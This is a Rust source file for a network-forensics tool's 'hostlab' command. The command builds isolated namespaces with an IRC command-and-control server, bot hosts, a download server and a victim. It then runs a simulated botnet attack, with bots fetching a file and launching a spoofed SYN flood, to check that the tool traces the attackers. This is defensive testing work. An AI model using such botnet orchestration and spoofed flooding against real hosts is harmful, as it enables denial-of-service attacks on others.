//! `ashiato hostlab`: host-based bot and C&C tracing end to end in network namespaces
//! (docs/host-tracing.md, "The namespace lab"). One command, as root:
//!
//! ```text
//!            cc  198.51.100.10  ngircd (the C&C, IRC on 6667)
//!            dl  203.0.113.80   HTTP download server (an ELF executable, paced)
//!           web  192.0.2.80     benign web server
//!        victim  198.18.0.5     HTTP service on 80, tcpdump of its interface
//!        center  10.77.250.2    ashiato center (mutual TLS, port 8443)
//!  host1..hostN  10.77.K.2      ashiato agent on each; bot hosts run ircbot and curl,
//!                               benign hosts curl only
//!            \________ all joined by veths to one router namespace, which also
//!                      answers DNS (cc.botnet.lab, dl.botnet.lab, www.example.lab, ...)
//! ```
//!
//! The story: every host runs `ashiato agent --once` on its interface (with `--forensic`:
//! a tcpdump and `/proc` samples instead, see [`crate::hostlab_host`]). Benign processes
//! (curl) fetch pages from `web` and from the victim's service throughout. On the bot hosts a
//! separate process, `ircbot` (this binary's hidden `hostlab bot` mode, started under that
//! name), resolves `cc.botnet.lab` and joins `#ops` on the real ngircd. The botmaster (the
//! lab itself, first in the channel and so its operator) says
//! `!get http://dl.botnet.lab/update.bin` (an ELF, found by content, not by name) and then
//! `!flood 198.18.0.5 80 SECS RATE 50`: half of the SYNs spoofed. The victim files its claim
//! from its own capture with `ashiato report --pcap` (the SYN-flood detector writes the EVE
//! alerts the center asks for). The lab stops the agents; each polls the signed claim list,
//! audits its history and reports the destinations of the processes that showed one of the
//! five features near the attack (never packet contents). The lab then asks the center for
//! `GET /v1/ranking/{incident}` and checks: the C&C first, the download server in the top
//! two, every bot host reported its bot process and no benign host reported a process, the
//! records naming `ircbot` and no benign destination (web, victim, resolver, center).
//!
//! Seeded: which hosts are bots, the number of benign-only hosts (2 or 3 unless `--benign`),
//! the flood rate (200-400 SYNs/s per bot), the bots' spoofed sources and the benign
//! processes' timing. Everything is made in a working directory (kept with `--keep`) and
//! every namespace, process and `/etc/netns` entry is removed when the lab ends, also on
//! failure. Exit 3 when a check fails, with the reason.

use std::collections::{BTreeSet, HashMap};
use std::net::{Ipv4Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use ashiato_capture::netns::{Netns, in_netns, unique_name, veth_pair};
use ashiato_net::client::{ClientError, ServiceClient};
use ashiato_net::tls::{TlsFiles, client_config};
use ashiato_rng::SplitMix64;
use serde_json::{Value, json};

use crate::CheckFailed;
use crate::hostlab_bot::BotArgs;
use crate::hostlab_host::{self as host, HostAudit};
use crate::hostlab_out::{HostOut, check, print};
use crate::hostlab_proc::{EtcNetns, Proc, capture, ngircd, spawn_in, wait_log};
use crate::hostlab_srv::{Botmaster, Page, dns_server, http_server};

/// `ashiato hostlab`
#[derive(clap::Args, Debug)]
#[command(args_conflicts_with_subcommands = true)]
pub struct HostlabArgs {
    /// The bot program (started by the lab on each bot host).
    #[command(subcommand)]
    pub bot: Option<HostlabBot>,
    /// Bot hosts.
    #[arg(long, default_value_t = 3, value_parser = clap::value_parser!(u32).range(1..=20))]
    pub bots: u32,
    /// Hosts with benign processes only (default: 2 or 3, seeded).
    #[arg(long, value_parser = clap::value_parser!(u32).range(0..=20))]
    pub benign: Option<u32>,
    /// Seed of the roles, rates, spoofed sources and benign timing.
    #[arg(long, default_value_t = 1)]
    pub seed: u64,
    /// Seconds the bots flood.
    #[arg(long, default_value_t = 3, value_parser = clap::value_parser!(u64).range(1..=30))]
    pub flood_secs: u64,
    /// One JSON object with the ranking, the hosts and the checks.
    #[arg(long)]
    pub json: bool,
    /// Keep the working directory (captures, snapshots, logs, certificates) here.
    #[arg(long)]
    pub keep: Option<PathBuf>,
    /// Without `ashiato agent`: tcpdump and /proc samples on each host, `ashiato hostcheck`
    /// on them, and the lab posts the hosts' reports.
    #[arg(long)]
    pub forensic: bool,
    /// The center's allow list (servers never ranked, one address a line), as an operator
    /// would give it: listing the C&C there makes the lab fail.
    #[arg(long)]
    pub center_allow: Option<PathBuf>,
}

/// The hidden bot mode.
#[derive(clap::Subcommand, Debug)]
pub enum HostlabBot {
    /// Run the lab's IRC bot (started by `ashiato hostlab`, not by hand).
    #[command(hide = true)]
    Bot(BotArgs),
}

pub(crate) const CC: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 10);
pub(crate) const DL: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 80);
pub(crate) const WEB: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 80);
pub(crate) const VICTIM: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 5);
pub(crate) const CENTER: Ipv4Addr = Ipv4Addr::new(10, 77, 250, 2);
const CENTER_PORT: u16 = 8443;
const IRC_PORT: u16 = 6667;
const CHANNEL: &str = "#ops";

/// Everything made; dropped in field order: processes, then /etc entries, then namespaces.
struct Lab {
    procs: Vec<Proc>,
    stop: Arc<AtomicBool>,
    _etc: Vec<EtcNetns>,
    router: Netns,
    cc: Netns,
    dl: Netns,
    web: Netns,
    victim: Netns,
    center: Netns,
    hosts: Vec<Netns>,
}

impl Drop for Lab {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for p in &mut self.procs {
            p.stop();
        }
    }
}

fn build(n_hosts: usize) -> Result<Lab> {
    let ns = |p: &str| Netns::new(&unique_name(p)).context("ip netns add (root needed)");
    let router = ns("hlr")?;
    // Spoofed sources must pass the router (no reverse-path filter).
    for k in ["all", "default"] {
        router.exec(&["sysctl", "-qw", &format!("net.ipv4.conf.{k}.rp_filter=0")])?;
    }
    router.exec(&["sysctl", "-qw", "net.ipv4.ip_forward=1"])?;
    let mut lab = Lab {
        procs: Vec::new(),
        stop: Arc::new(AtomicBool::new(false)),
        _etc: Vec::new(),
        cc: ns("hlc")?,
        dl: ns("hld")?,
        web: ns("hlw")?,
        victim: ns("hlv")?,
        center: ns("hlk")?,
        hosts: Vec::new(),
        router,
    };
    for _ in 0..n_hosts {
        lab.hosts.push(ns("hlh")?);
    }
    let mut leaves: Vec<(&Netns, Ipv4Addr)> = vec![
        (&lab.cc, CC),
        (&lab.dl, DL),
        (&lab.web, WEB),
        (&lab.victim, VICTIM),
        (&lab.center, CENTER),
    ];
    for (k, h) in lab.hosts.iter().enumerate() {
        leaves.push((h, host_addr(k)));
    }
    for (i, (leaf, addr)) in leaves.into_iter().enumerate() {
        let gw = gateway(addr);
        veth_pair(
            leaf,
            "e0",
            &lab.router,
            &format!("r{i}"),
            Some((&format!("{addr}/24"), &format!("{gw}/24"))),
        )?;
        leaf.exec(&["ip", "route", "add", "default", "via", &gw.to_string()])?;
    }
    Ok(lab)
}

pub(crate) fn host_addr(k: usize) -> Ipv4Addr {
    Ipv4Addr::new(10, 77, (k + 1) as u8, 2)
}

pub(crate) fn gateway(a: Ipv4Addr) -> Ipv4Addr {
    let o = a.octets();
    Ipv4Addr::new(o[0], o[1], o[2], 1)
}

/// The names the router's DNS server answers.
fn zone() -> HashMap<String, Ipv4Addr> {
    [
        ("cc.botnet.lab", CC),
        ("dl.botnet.lab", DL),
        ("www.example.lab", WEB),
        ("victim.example.lab", VICTIM),
        ("center.example.lab", CENTER),
    ]
    .into_iter()
    .map(|(n, a)| (n.to_string(), a))
    .collect()
}

/// A JSON call to the center from namespace `ns` with identity `who`.
fn center_call(
    ns: &Netns,
    pki: &Path,
    who: &str,
    method: &'static str,
    path: String,
    body: Option<Value>,
) -> Result<Value> {
    let tls = client_config(&TlsFiles::in_dir(pki, who))?;
    let addr = format!("{CENTER}:{CENTER_PORT}");
    in_netns(ns.name(), move || -> Result<Value> {
        let client = ServiceClient::new(&addr, Some(tls));
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()?;
        match rt.block_on(client.call::<Value, Value>(method, &path, body.as_ref())) {
            Ok(v) => Ok(v),
            // 202 Accepted has no body: the status was a success.
            Err(ClientError::Decode { .. }) if method == "POST" => Ok(Value::Null),
            Err(e) => Err(e).with_context(|| format!("{method} {path}")),
        }
    })?
}

/// Runs the lab (or, with `bot`, the bot program).
pub fn run(a: &HostlabArgs) -> Result<()> {
    if let Some(HostlabBot::Bot(b)) = &a.bot {
        return crate::hostlab_bot::run(b);
    }
    let started = Instant::now();
    let mut rng = SplitMix64::new(a.seed);
    let benign = a.benign.unwrap_or(2 + (rng.next_u64() % 2) as u32) as usize;
    let n = a.bots as usize + benign;
    // Seeded roles: a shuffle of the host numbers, the first `bots` of them run the bot.
    let mut order: Vec<usize> = (0..n).collect();
    for i in (1..n).rev() {
        order.swap(i, (rng.next_u64() % (i as u64 + 1)) as usize);
    }
    let is_bot: Vec<bool> = (0..n)
        .map(|k| {
            order
                .iter()
                .position(|&x| x == k)
                .is_some_and(|p| p < a.bots as usize)
        })
        .collect();
    let rate = 200 + rng.next_u64() % 201;
    let tmp;
    let work: PathBuf = match &a.keep {
        Some(d) => {
            // A used directory would hand the agents an old history to audit.
            if std::fs::read_dir(d).is_ok_and(|mut e| e.next().is_some()) {
                return Err(crate::UsageError(format!(
                    "--keep {}: not empty (give a new or empty directory)",
                    d.display()
                ))
                .into());
            }
            std::fs::create_dir_all(d).with_context(|| format!("--keep {}", d.display()))?;
            d.clone()
        }
        None => {
            tmp = tempfile::tempdir()?;
            tmp.path().to_path_buf()
        }
    };
    let exe = std::env::current_exe()?;
    let mut lab = build(n)?;
    let pki = work.join("pki");
    let mut names = vec!["center".to_string(), "victim".to_string()];
    names.extend((1..=n).map(|k| format!("host{k}")));
    ashiato_net::tls::init_pki(
        &pki,
        &ashiato_net::tls::PkiOptions {
            names,
            extra_sans: vec![CENTER.to_string()],
            days: ashiato_net::tls::DEFAULT_DAYS,
            federation: Some("hostlab".into()),
        },
        std::time::SystemTime::now(),
    )?;
    let keys = work.join("center-keys");
    let log = work.join("center.log");
    let mut c = spawn_in(
        &lab.center,
        &[
            exe.as_os_str(),
            "center".as_ref(),
            "--listen".as_ref(),
            format!("{CENTER}:{CENTER_PORT}").as_ref(),
            "--tls-dir".as_ref(),
            pki.as_os_str(),
            "--key-dir".as_ref(),
            keys.as_os_str(),
            "--audit-log".as_ref(),
            work.join("center-audit.log").as_os_str(),
        ]
        .into_iter()
        .chain(
            a.center_allow
                .iter()
                .flat_map(|p| ["--allow".as_ref(), p.as_os_str()]),
        )
        .collect::<Vec<_>>(),
        &log,
    )?;
    wait_log(&log, "center listening", &mut c, "ashiato center")?;
    lab.procs.push(Proc(c));
    let stop = lab.stop.clone();
    dns_server(lab.router.name(), zone(), stop.clone())?;
    let elf = std::fs::read("/bin/true").context("reading /bin/true (the ELF served)")?;
    if !elf.starts_with(b"\x7fELF") {
        bail!("/bin/true is not an ELF executable");
    }
    let html = |t: &str| Arc::new(format!("<html><body><h1>{t}</h1></body></html>\n").into_bytes());
    let pages = [
        // Paced like a slow link: the download lasts about a second, longer than a sample.
        (
            &lab.dl,
            DL,
            Page {
                content_type: "application/octet-stream",
                body: Arc::new(elf),
                pieces: 10,
                pace: Duration::from_millis(100),
            },
        ),
        (
            &lab.web,
            WEB,
            // Long enough for the samples to see curl's socket too: benign processes are
            // attributed, and must still not be reported.
            Page {
                content_type: "text/html",
                body: html(&"news ".repeat(2000)),
                pieces: 8,
                pace: Duration::from_millis(60),
            },
        ),
        (
            &lab.victim,
            VICTIM,
            Page {
                content_type: "text/html",
                body: html("shop"),
                pieces: 1,
                pace: Duration::ZERO,
            },
        ),
    ];
    for (ns, addr, page) in pages {
        http_server(ns.name(), SocketAddr::from((addr, 80)), page, stop.clone())?;
    }
    let irc = ngircd(&lab.cc, &work, CC, IRC_PORT)?;
    lab.procs.push(irc);
    // Histories: the hosts' and the victim's captures; resolv.conf for each host.
    let victim_pcap = work.join("victim.pcap");
    let p = capture(&lab.victim, &victim_pcap, &work.join("victim-tcpdump.log"))?;
    let victim_cap = lab.procs.len();
    lab.procs.push(p);
    let mut dirs = Vec::new();
    let mut anchors = Vec::new();
    let first_host_proc = lab.procs.len();
    let center_addr = format!("{CENTER}:{CENTER_PORT}");
    for k in 0..n {
        let name = format!("host{}", k + 1);
        let d = host::host_dir(&work, &name)?;
        let etc = PathBuf::from("/etc/netns").join(lab.hosts[k].name());
        std::fs::create_dir_all(&etc)?;
        lab._etc.push(EtcNetns(etc.clone()));
        std::fs::write(
            etc.join("resolv.conf"),
            format!("nameserver {}\n", gateway(host_addr(k))),
        )?;
        let p = if a.forensic {
            let p = capture(
                &lab.hosts[k],
                &d.join("history.pcap"),
                &d.join("tcpdump.log"),
            )?;
            anchors.push(p.pid());
            p
        } else {
            host::start_agent(&exe, &lab.hosts[k], &d, &pki, &name, &center_addr)?
        };
        lab.procs.push(p);
        dirs.push(d);
    }
    let samples = host::sampler(anchors, stop.clone());
    // Benign processes on every host: curl fetching the news page and the victim's shop.
    for h in &lab.hosts {
        let (ns, s, seed) = (h.name().to_string(), stop.clone(), rng.next_u64());
        std::thread::spawn(move || benign_loop(&ns, &s, seed));
    }
    // The botmaster joins first (the channel's operator), then the bots.
    let mut master = Botmaster::join(lab.router.name(), SocketAddr::from((CC, IRC_PORT)), CHANNEL)?;
    let bin = work.join("bin");
    std::fs::create_dir_all(&bin)?;
    let bot_exe = bin.join("ircbot");
    let _ = std::fs::remove_file(&bot_exe);
    std::os::unix::fs::symlink(&exe, &bot_exe)?;
    let mut nicks = BTreeSet::new();
    for k in (0..n).filter(|&k| is_bot[k]) {
        let nick = format!("bot{}", k + 1);
        let c = spawn_in(
            &lab.hosts[k],
            &[
                bot_exe.as_os_str(),
                "hostlab".as_ref(),
                "bot".as_ref(),
                "--irc".as_ref(),
                format!("cc.botnet.lab:{IRC_PORT}").as_ref(),
                "--channel".as_ref(),
                CHANNEL.as_ref(),
                "--nick".as_ref(),
                nick.as_ref(),
                "--dir".as_ref(),
                dirs[k].join("downloads").as_os_str(),
                "--seed".as_ref(),
                rng.next_u64().to_string().as_ref(),
            ],
            &dirs[k].join("ircbot.log"),
        )?;
        lab.procs.push(Proc(c));
        nicks.insert(nick);
    }
    let want = nicks.clone();
    master
        .wait(Duration::from_secs(15), "the bots to join", |_, present| {
            want.is_subset(present)
        })
        .with_context(|| {
            let logs: Vec<String> = (0..n)
                .filter(|&k| is_bot[k])
                .map(|k| {
                    let l = std::fs::read_to_string(dirs[k].join("ircbot.log")).unwrap_or_default();
                    format!("host{}: {}", k + 1, l.trim())
                })
                .collect();
            format!("bots' output: {}", logs.join("; "))
        })?;
    let got = master.command(
        "!get http://dl.botnet.lab/update.bin",
        &nicks,
        Duration::from_secs(20),
    )?;
    for (b, t) in &got {
        if !t.ends_with("(elf)") {
            bail!("{b} did not fetch the executable: {t}");
        }
    }
    let flood = master.command(
        &format!("!flood {VICTIM} 80 {} {rate} 50", a.flood_secs),
        &nicks,
        Duration::from_secs(a.flood_secs + 20),
    )?;
    for (b, t) in &flood {
        if !t.starts_with("flooded") {
            bail!("{b} did not flood: {t}");
        }
    }
    // A little benign traffic after the attack, then everyone leaves.
    std::thread::sleep(Duration::from_millis(500));
    master.quit();
    std::thread::sleep(Duration::from_millis(300));
    stop.store(true, Ordering::Relaxed);
    lab.procs[victim_cap].stop();
    if a.forensic {
        for p in &mut lab.procs[first_host_proc..first_host_proc + n] {
            p.stop();
        }
    }
    let attack_done = started.elapsed();

    // The victim's claim, from its own capture.
    let out = Command::new("ip")
        .args(["netns", "exec", lab.victim.name()])
        .arg(&exe)
        .args(["report", "--pcap"])
        .arg(&victim_pcap)
        .args(["--center", &format!("{CENTER}:{CENTER_PORT}"), "--tls-dir"])
        .arg(&pki)
        .args([
            "--name",
            "victim",
            "--yes",
            "--id-prefix",
            "incident",
            "--fqdn",
            "victim.example.lab",
        ])
        .output()?;
    let report_out = String::from_utf8_lossy(&out.stdout).into_owned();
    std::fs::write(work.join("victim-report.txt"), &report_out)?;
    if !out.status.success() {
        bail!(
            "the victim's report was not accepted: {}{}",
            report_out,
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let incident = report_out
        .lines()
        .find_map(|l| l.strip_prefix("claim ")?.split(' ').next())
        .context("the report named no accepted claim")?
        .to_string();

    // Each host: the signed list, the audit, the report.
    if !a.forensic {
        // Stopping the agents ends their recording; each then polls, audits and reports.
        for p in &lab.procs[first_host_proc..first_host_proc + n] {
            p.terminate();
        }
    }
    let samples = samples.lock().unwrap_or_else(|e| e.into_inner());
    let mut hosts_out = Vec::new();
    for k in 0..n {
        let name = format!("host{}", k + 1);
        let d = &dirs[k];
        let (audit, reported, procs) = if a.forensic {
            let procs = samples.procs_file(k);
            std::fs::write(d.join("procs.jsonl"), &procs)?;
            let (audit, reported) = forensic_host(&lab, k, &exe, d, &pki, &keys, &incident)?;
            (audit, reported, procs)
        } else {
            let (audit, reported) =
                host::finish_agent(&mut lab.procs[first_host_proc + k], d, &incident)?;
            let procs =
                std::fs::read_to_string(d.join("history").join("procs.jsonl")).unwrap_or_default();
            (audit, reported, procs)
        };
        let nick = format!("bot{}", k + 1);
        hosts_out.push(HostOut {
            bot_said: got
                .get(&nick)
                .map(|g| format!("{g}; {}", flood.get(&nick).map_or("", String::as_str))),
            processes: host::processes_in(&procs),
            address: host_addr(k).to_string(),
            bot: is_bot[k],
            reported,
            audit,
            name,
        });
    }
    drop(samples);
    let ranking = center_call(
        &lab.victim,
        &pki,
        "victim",
        "GET",
        format!("/v1/ranking/{incident}"),
        None,
    )?;
    drop(lab);
    let problems = check(&ranking, &hosts_out);
    print(
        a,
        &incident,
        &ranking,
        &hosts_out,
        &problems,
        rate,
        attack_done,
        started.elapsed(),
    )?;
    if problems.is_empty() {
        Ok(())
    } else {
        Err(CheckFailed(format!("hostlab: {}", problems.join("; "))).into())
    }
}

/// The forensic path for host `k`: the signed list fetched with the host's certificate,
/// `hostcheck` on its capture and samples, the report posted when it has records.
fn forensic_host(
    lab: &Lab,
    k: usize,
    exe: &Path,
    d: &Path,
    pki: &Path,
    keys: &Path,
    incident: &str,
) -> Result<(HostAudit, bool)> {
    let name = format!("host{}", k + 1);
    let ns = &lab.hosts[k];
    let delta = center_call(ns, pki, &name, "GET", "/v1/claims?since=0".into(), None)?;
    let list = d.join("claims.json");
    std::fs::write(&list, format!("{delta}\n"))?;
    let audit = host::audit(exe, ns.name(), d, keys, &list, incident)?;
    let report = host::report(&name, incident, Some(80), &audit);
    if let Some(r) = &report {
        let body = json!({ "report_id": format!("{name}-1"), "report": r });
        center_call(ns, pki, &name, "POST", "/v1/reports".into(), Some(body))?;
    }
    Ok((audit, report.is_some()))
}

/// Benign processes on one host until `stop`: curl fetches the news page (and every third
/// time the victim's shop) at seeded intervals of 300-800 ms.
fn benign_loop(ns: &str, stop: &AtomicBool, seed: u64) {
    let mut rng = SplitMix64::new(seed);
    let mut i = 0u64;
    while !stop.load(Ordering::Relaxed) {
        let url = if i % 3 == 2 {
            "http://victim.example.lab/"
        } else {
            "http://www.example.lab/"
        };
        let _ = Command::new("ip")
            .args([
                "netns",
                "exec",
                ns,
                "curl",
                "-s",
                "-m",
                "3",
                "-o",
                "/dev/null",
                url,
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        i += 1;
        std::thread::sleep(Duration::from_millis(300 + rng.next_u64() % 500));
    }
}
